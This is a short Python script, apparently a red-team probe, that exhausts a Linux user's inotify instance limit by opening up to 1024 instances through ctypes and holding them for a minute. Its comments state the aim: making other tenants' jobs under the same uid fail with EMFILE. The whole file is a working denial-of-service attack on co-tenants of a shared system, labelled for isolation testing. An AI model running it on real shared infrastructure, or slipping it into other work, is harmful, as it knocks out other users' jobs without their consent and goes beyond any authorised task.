# Exhaust a per-user kernel limit: every inotify instance the user may hold (128 by default),
# then hold them. With one uid for every tenant, another job's inotify_init fails (EMFILE).
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
held = []
while len(held) < 1024:
    fd = libc.inotify_init1(0)
    if fd < 0:
        break
    held.append(fd)
print("REDTEAM inotify hog:", "all" if len(held) >= 100 else len(held), flush=True)
time.sleep(60)
